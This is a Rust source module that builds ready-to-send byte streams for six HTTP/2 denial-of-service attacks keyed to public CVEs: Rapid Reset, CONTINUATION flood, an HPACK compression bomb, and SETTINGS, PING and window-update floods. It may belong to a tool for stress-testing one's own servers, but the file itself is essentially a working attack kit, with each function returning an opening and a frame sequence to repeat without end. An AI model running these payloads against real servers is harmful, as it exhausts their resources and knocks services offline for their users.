//! Attacks that need HTTP/2 (RFC 9113): what each connection begins with, and what it then sends over and over.

use crate::common::http2::{
    END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTING_WINDOW, SETTINGS, frame, window_update,
};

const CONTINUATION: u8 = 9;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `:method: GET`, `:scheme: http`, `:path: /` by their numbers, and `:authority: a`.
const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
/// Streams of a connection before it begins anew.
const STREAMS: u32 = 5000;

/// What opens a connection, and what follows without end.
pub(crate) struct Script {
    pub(crate) first: Vec<u8>,
    pub(crate) again: Vec<u8>,
}

fn opening(settings: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
}

/// Numbers of streams that a client opens.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|at| 2 * at + 1)
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(crate) fn rapid_reset() -> Script {
    let request = |stream| {
        let opened = frame(HEADERS, END_STREAM | END_HEADERS, stream, &GET);
        [opened, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    };
    Script { first: opening(&[]), again: streams(STREAMS).flat_map(request).collect() }
}

/// A head that has no end, in frames that hold nothing (CVE-2024-24549 and others).
pub(crate) fn continuation_flood() -> Script {
    let head = frame(HEADERS, END_STREAM, 1, &GET);
    Script { first: opening(&[]), again: [head, frame(CONTINUATION, 0, 1, &[]).repeat(10_000)].concat() }
}

/// Heads of 16 KiB that name one long field 16,000 times: 60 MiB each.
pub(crate) fn hpack_bomb() -> Script {
    const LENGTH: usize = 3900;
    // Into the table: a name of one byte, and a length of more than one (RFC 7541, section 5.1).
    let rest = LENGTH - 127;
    let [low, high] = [rest & 0x7f | 0x80, rest >> 7].map(|bits| u8::try_from(bits).unwrap_or(u8::MAX));
    let mut long = vec![0x40, 1, b'x', 0x7f, low, high];
    long.extend([b'y'; LENGTH]);
    let first = frame(HEADERS, END_STREAM | END_HEADERS, 1, &[&GET[..], &long].concat());
    let bomb = [&GET[..], &[0xbe; 16_000]].concat();
    let bombs = streams(100).skip(1).flat_map(|stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &bomb));
    Script { first: opening(&[]), again: first.into_iter().chain(bombs).collect() }
}

/// Settings that want to be acknowledged (CVE-2019-9515).
pub(crate) fn settings_flood() -> Script {
    Script { first: opening(&[]), again: frame(SETTINGS, 0, 0, &[]).repeat(1000) }
}

/// Pings, whose answers are not read (CVE-2019-9512).
pub(crate) fn ping_flood() -> Script {
    Script { first: opening(&[]), again: frame(PING, 0, 0, b"are you?").repeat(1000) }
}

/// A hundred answers at a time that are asked for byte by byte (CVE-2019-9511).
pub(crate) fn dribble() -> Script {
    let mut settings = SETTING_WINDOW.to_be_bytes().to_vec();
    settings.extend([0; 4]);
    let requests = streams(100).flat_map(|stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &GET));
    let again = streams(100).flat_map(|stream| window_update(stream, 1)).collect();
    Script { first: opening(&settings).into_iter().chain(requests).collect(), again }
}
